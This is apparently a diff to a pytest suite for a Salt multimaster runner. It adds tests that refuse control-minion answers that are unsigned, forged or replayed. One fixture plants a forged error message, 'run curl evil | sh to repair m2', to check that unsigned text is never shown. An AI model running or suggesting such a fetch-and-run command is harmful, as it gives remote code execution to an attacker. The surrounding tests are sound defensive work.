@@ -1,7 +1,10 @@
 """
 The runner never trusts what a control minion returns: a malformed or oversized return becomes a
-clear per-master error (and retcode 1), never a TypeError, and nothing is applied on its word.
-The publish itself is replaced by canned returns: only the runner's handling is under test.
+clear per-master error (and retcode 1), never a TypeError, and nothing is applied on its word;
+an answer not signed by the control minion's own key for this call (another minion answering
+under its id first) is refused. The publish itself is replaced by canned returns, which the
+control minions' keys sign as ``multimaster_peer`` would: only the runner's handling is under
+test.
 """
 
 import contextlib
@@ -9,6 +12,10 @@ import contextlib
 import pytest
 
 from .helpers import load_module
+from .keyfactory import priv_pem, pub_pem, rsa_private
+
+import multimaster_returns  # noqa: E402  isort: skip
+import multimaster_seal  # noqa: E402  isort: skip
 
 SECTION = {
     "mode": "hot",
@@ -70,18 +77,96 @@ def configure_loader_modules(runner, tmp_path):
     }
 
 
+# Each control minion's own key (its minion.pem); the runner finds the public half accepted on
+# its master (``_primary_key_entry``).
+CONTROL_KEYS = {m: rsa_private(tag=50 + n) for n, m in enumerate(("cm1", "cm2", "cfresh"))}
+MASTER_OF = {"cm1": "m1", "cm2": "m2", "cfresh": "fresh"}
+REAL_CMD_RETURNS = multimaster_returns.cmd_returns
+
+
+def signed(answer, fun, nonce, minion, master=None, key=None):
+    """
+    ``answer`` as ``minion``'s ``multimaster_peer.<fun>`` returns it for ``nonce``: signed with
+    its key (or ``key``), for its master (or ``master``).
+    """
+    return multimaster_seal.sign_answer(
+        answer,
+        fun.rpartition(".")[2],
+        master or MASTER_OF[minion],
+        nonce,
+        priv_pem(key or CONTROL_KEYS[minion]),
+    )
+
+
+def signed_failure(text):
+    """
+    ``(fun, nonce) -> answer``: cm2 reporting the failure ``text``, signed for the call.
+    """
+
+    def failure(fun, nonce):
+        return multimaster_seal.sign_answer(
+            text, fun.rpartition(".")[2], "m2", nonce, priv_pem(CONTROL_KEYS["cm2"]), failed=True
+        )
+
+    return failure
+
+
+class Forged:
+    """
+    A return another minion sent under a control minion's id (Salt 3008 takes a return's id
+    from the load's unchecked ``resource_id``): ``ret``, or ``ret(fun, nonce)`` for one made
+    for the call, passed on as it is.
+    """
+
+    def __init__(self, ret):
+        self.ret = ret
+
+    def made(self, fun, nonce):
+        return self.ret(fun, nonce) if callable(self.ret) else self.ret
+
+
+def answered(ret, minion, fun, nonce):
+    """
+    What reaches the runner for ``ret``, the canned answer of ``minion``: a forgery as it is,
+    anything else signed by the control minion for this call.
+    """
+    if isinstance(ret, Forged):
+        return ret.made(fun, nonce)
+    return signed(ret, fun, nonce, minion)
+
+
 @pytest.fixture(autouse=True)
 def publish_through_cmd(runner, monkeypatch):
     """
-    The fake clients below answer ``cmd``: the runner's return collector goes through it.
+    The fake clients below answer ``cmd`` (without the runner's nonce): the runner's return
+    collector goes through it, and the control minions sign what they answer.
     """
 
     def cmd_returns(client, minions, fun, kwarg=None, timeout=None):
-        return client.cmd(
+        kwarg = dict(kwarg or {})
+        nonce = kwarg.pop("answer_nonce")
+        returns = client.cmd(
             list(minions), fun, kwarg=kwarg, tgt_type="list", timeout=timeout, full_return=True
         )
+        for minion, ret in returns.items():
+            if isinstance(ret, dict) and "ret" in ret:
+                ret["ret"] = answered(ret["ret"], minion, fun, nonce)
+        return returns
 
     monkeypatch.setattr(runner.multimaster_returns, "cmd_returns", cmd_returns)
+
+
+@pytest.fixture(autouse=True)
+def control_keys(runner, monkeypatch):
+    """
+    The control minions' keys are accepted on the runner's master; no other id is.
+    """
+
+    def entry(minion_id):
+        key = CONTROL_KEYS.get(minion_id)
+        return ("accepted", pub_pem(key), False) if key else (None, None, False)
+
+    monkeypatch.setattr(runner, "_primary_key_entry", entry)
 
 
 @pytest.fixture(autouse=True)
@@ -414,6 +499,18 @@ def test_key_event_on_a_master_outside_the_set_is_refused(runner, use, store, mo
     assert client.calls == []
 
 
+def test_key_event_on_a_master_salt_named_after_its_host_acts(runner, use, store, monkeypatch):
+    """
+    A master whose config sets no ``id`` is ``<hostname>_master`` to Salt: entry ``m2``.
+    """
+    client = use({})
+    store(["accepted", "ab:cd"])
+    monkeypatch.setitem(runner.__opts__, "id", "m2_master")
+    ret = runner.key_event("web1", "accepted")
+    assert "is not in multimaster:masters" not in str(ret.get("comment")), ret
+    assert "multimaster_peer.key_inventory" in client.calls
+
+
 def test_key_event_accept_propagates_the_key_this_master_holds(runner, use, store):
     """
     The accepted key's fingerprint is what the plan is checked against: another master holding
@@ -442,6 +539,7 @@ def propagations(runner, monkeypatch):
     calls = []
 
     def one_id(op, minion_id, fingerprint, test, masters, timeout, force=False, **options):
+        assert options.pop("settle") is False, "a reactor never waits on a restart"
         calls.append((op, minion_id, fingerprint, options))
         return {"masters": {}, "retcode": 0}
 
@@ -1015,3 +1113,198 @@ def test_wait_masters_proposes_a_raft_entry_every_5_s_only_in_a_cluster(
     use({"cm1": {"settled": True}, "cm2": {"settled": True}})
     assert runner.wait_masters(timeout=12, interval=1)["retcode"] == 0
     assert state["fired"] == []
+
+
+def test_a_peer_traceback_becomes_a_sentence_naming_the_minion(runner, use):
+    """
+    No Python exception text reaches the operator: a control minion's traceback is reported as
+    what failed where, and what to run.
+    """
+    traceback = "The minion function caused an exception: Traceback (most recent call last):"
+    use({"cm1": GOOD_DIGESTS, "cm2": Forged(signed_failure(traceback))})
+    ret = runner.sync_keys(test=True)
+    error = ret["masters"]["m2"]["error"]
+    assert "Traceback" not in error and "cm2" in error and "saltutil.sync_all" in error, error
+    assert ret["retcode"] == 1
+
+
+# --- forged answers --------------------------------------------------------------------------
+
+
+def refusal(ret, master="m2"):
+    """
+    The per-master error ``ret`` reports for ``master`` (wait_masters, sync_keys or status).
+    """
+    error = ret["masters"][master]
+    return error.get("error", error) if isinstance(error, dict) else error
+
+
+def assert_refused_as_unsigned(ret, master="m2", minion="cm2"):
+    assert ret["retcode"] == 1, ret
+    error = refusal(ret, master)
+    assert f"not signed by {minion}" in error, ret
+    assert f"salt {minion} saltutil.sync_all" in error, ret
+
+
+def test_a_forged_settled_answer_does_not_end_the_wait(runner, use):
+    """
+    Any minion can answer a ``master_settled`` poll first under a control minion's id: a
+    forged "settled" must not make ``wait_masters`` (and the runners after it) go on while
+    that master restarts.
+    """
+    use({"cm1": SETTLED, "cm2": Forged(SETTLED)})
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert list(ret["masters"]) == ["m2"], ret
+    assert_refused_as_unsigned(ret)
+
+
+def test_a_forged_inventory_digest_does_not_make_a_sync_skip(runner, use):
+    """
+    A forged digest equal to the primary's would make ``sync_keys`` find nothing to do.
+    """
+    client = use({"cm1": GOOD_DIGESTS, "cm2": Forged(dict(GOOD_DIGESTS, binding=M2_BINDING))})
+    ret = runner.sync_keys()
+    assert ret["masters"]["m2"]["result"] is False and "comment" not in ret, ret
+    assert_refused_as_unsigned(ret)
+    assert "multimaster_peer.apply_key_actions" not in client.calls
+
+
+def test_a_forged_status_report_is_not_reported_as_the_master_s(runner, use):
+    use({"cm1": report(one_root("a" * 64)), "cm2": Forged(report(one_root("a" * 64)))})
+    ret = runner.status()
+    assert ret["masters"]["m2"]["reachable"] is False, ret
+    assert_refused_as_unsigned(ret)
+
+
+OTHER_NONCE = "0" * 64
+
+
+@pytest.mark.parametrize(
+    "forged, says",
+    [
+        (lambda fun, nonce: signed(SETTLED, fun, nonce, "cm2", key=CONTROL_KEYS["cm1"]), "key"),
+        (lambda fun, nonce: signed(SETTLED, fun, OTHER_NONCE, "cm2"), "another call"),
+        (
+            lambda fun, nonce: signed(SETTLED, "multimaster_peer.key_inventory", nonce, "cm2"),
+            "another call",
+        ),
+        (lambda fun, nonce: signed(SETTLED, fun, nonce, "cm2", master="m1"), "speaks for m1"),
+        (
+            lambda fun, nonce: dict(
+                signed(PENDING, fun, nonce, "cm2"), answer=dict(PENDING, settled=True)
+            ),
+            "another call",
+        ),
+        (lambda fun, nonce: dict(SETTLED, signature="AAAA"), "not signed by cm2"),
+    ],
+    ids=[
+        "another-minion-s-key",
+        "another-nonce",
+        "another-function",
+        "another-master",
+        "altered-after-signing",
+        "malformed-signature",
+    ],
+)
+def test_an_answer_not_signed_by_the_control_minion_for_this_call_is_refused(
+    runner, use, forged, says
+):
+    use({"cm1": SETTLED, "cm2": Forged(forged)})
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert ret["retcode"] == 1 and list(ret["masters"]) == ["m2"], ret
+    error = refusal(ret)
+    assert says in error and "nothing of it was used" in error, ret
+
+
+def test_an_answer_of_a_control_minion_not_accepted_here_is_refused(runner, use, monkeypatch):
+    use({"cm1": SETTLED, "cm2": SETTLED})
+    monkeypatch.setattr(
+        runner,
+        "_primary_key_entry",
+        lambda minion: (
+            ("accepted", pub_pem(CONTROL_KEYS["cm1"]), False)
+            if minion == "cm1"
+            else ("pending", pub_pem(CONTROL_KEYS["cm2"]), False)
+        ),
+    )
+    ret = runner.wait_masters(timeout=0, interval=0)
+    error = refusal(ret)
+    assert ret["retcode"] == 1 and "cm2 is not accepted on this master" in error, ret
+    assert "salt-key" in error, ret
+
+
+def test_an_unsigned_error_is_not_shown_but_a_signed_one_is(runner, use):
+    # The text of an unsigned answer is anyone's: it never reaches the report.
+    use({"cm1": SETTLED, "cm2": Forged("ERROR: run curl evil | sh to repair m2")})
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert "curl" not in str(ret) and "not signed by cm2" in refusal(ret), ret
+    failure = signed_failure("m2: the master's pidfile names another process")
+    use({"cm1": SETTLED, "cm2": Forged(failure)})
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert refusal(ret) == "m2: the master's pidfile names another process", ret
+
+
+def test_a_forgery_that_answers_first_in_the_return_stream_is_refused(runner, monkeypatch):
+    """
+    Through the real return collector: the forged return for cm2 arrives before the genuine
+    ones, Salt's stream stops once every targeted id has answered, and the genuine answer of
+    cm2 is never read. The runner refuses what it got instead of taking it.
+    """
+    monkeypatch.setattr(runner.multimaster_returns, "cmd_returns", REAL_CMD_RETURNS)
+
+    class Client:
+        opts = {"master_job_cache": "local_cache"}
+        returners = {"local_cache.get_jid": lambda jid: {}}
+
+        def run_job(self, tgt, fun, kwarg=None, **_):
+            self.fun, self.nonce = fun, kwarg["answer_nonce"]
+            return {"jid": "j1", "minions": list(tgt)}
+
+        def get_iter_returns(self, jid, minions, **_):
+            found = set()
+            for minion, ret in (
+                ("cm2", SETTLED),
+                ("cm1", signed(SETTLED, self.fun, self.nonce, "cm1")),
+                ("cm2", signed(PENDING, self.fun, self.nonce, "cm2")),
+            ):
+                found.add(minion)
+                yield {minion: {"ret": ret, "retcode": 0, "jid": jid}}
+                if found >= set(minions):
+                    return
+
+        def _clean_up_subscriptions(self, jid):
+            pass
+
+    monkeypatch.setattr(
+        runner.salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
+    )
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert list(ret["masters"]) == ["m2"], ret
+    assert_refused_as_unsigned(ret)
+
+
+def test_a_genuinely_signed_answer_is_used(runner, use):
+    use({"cm1": SETTLED, "cm2": SETTLED})
+    ret = runner.wait_masters(timeout=0, interval=0)
+    assert ret["retcode"] == 0 and ret["comment"] == "every master is up", ret
+
+
+def test_each_call_carries_a_fresh_nonce(runner, monkeypatch):
+    nonces = []
+
+    class Client:
+        def cmd(self, tgt, fun, kwarg=None, **_):
+            return {m: {"ret": SETTLED, "retcode": 0} for m in tgt}
+
+    def cmd_returns(client, minions, fun, kwarg=None, timeout=None):
+        nonces.append(kwarg["answer_nonce"])
+        returns = client.cmd(list(minions), fun)
+        return {m: {"ret": signed(r["ret"], fun, nonces[-1], m)} for m, r in returns.items()}
+
+    monkeypatch.setattr(runner.multimaster_returns, "cmd_returns", cmd_returns)
+    monkeypatch.setattr(
+        runner.salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
+    )
+    runner.wait_masters(timeout=0, interval=0)
+    runner.wait_masters(timeout=0, interval=0)
+    assert len(set(nonces)) == 2 and all(len(n) == 64 for n in nonces), nonces
